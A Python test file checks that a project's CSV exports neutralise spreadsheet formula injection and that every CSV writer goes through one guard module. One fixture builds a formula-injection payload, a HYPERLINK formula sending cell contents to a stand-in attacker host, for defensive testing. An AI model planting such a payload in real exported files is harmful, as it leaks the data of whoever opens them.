"""Every CSV the project writes is safe to open in a spreadsheet: a text cell that begins with
what Excel or LibreOffice runs as a formula (OWASP's list: = + - @ tab CR) is written with a
leading ', and every CSV writer in the code goes through the one guard."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from storage.exchange import MemberRecord
from storage.files import FORMULA_STARTS, table_to_csv, to_csv
from storage.models import MemberKind

ROOT = Path(__file__).resolve().parents[2]
# Where the guard lives: the only module allowed to make a csv writer.
GUARD = ROOT / "storage" / "files.py"


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_a_formula_cell_is_neutralised_by_both_writers(start: str) -> None:
    dangerous = f'{start}HYPERLINK("http://evil.example/?x="&A1,"Click")'
    table = table_to_csv(("person", "count"), [{"person": dangerous, "count": -3}])
    [row] = list(csv.DictReader(io.StringIO(table, newline="")))
    assert row == {"person": "'" + dangerous, "count": "-3"}  # numbers stay numbers

    # Built without validation: records strip a leading tab and refuse a CR, but the writer
    # must not count on every row having come through them.
    member = MemberRecord.model_construct(
        slug="evil", name=dangerous, kind=MemberKind.COMPANY, capabilities=[dangerous]
    )
    [cells] = list(csv.DictReader(io.StringIO(to_csv("members", [member]), newline="")))
    assert (cells["name"], cells["capabilities"]) == ("'" + dangerous, "'" + dangerous)


def test_ordinary_text_is_written_as_it_is() -> None:
    table = table_to_csv(("name",), [{"name": "Arctic Sense Oy"}, {"name": "'quoted'"}])
    assert [r["name"] for r in csv.DictReader(io.StringIO(table))] == [
        "Arctic Sense Oy",
        "'quoted'",
    ]


def test_every_csv_writer_in_the_code_is_the_guarded_one() -> None:
    """A new export that made its own csv.writer would write formulas as they are."""
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\b|\bDictWriter\(|\bcsv_writer\b")
    found = [
        f"{path.relative_to(ROOT)}:{number}"
        for folder in ("bot", "storage", "retrieval", "bench", "standins", "prompts")
        for path in sorted((ROOT / folder).rglob("*.py"))
        if path != GUARD
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if writers.search(line)
    ]
    assert found == []
    assert writers.search(GUARD.read_text(encoding="utf-8"))  # the pattern does find writers
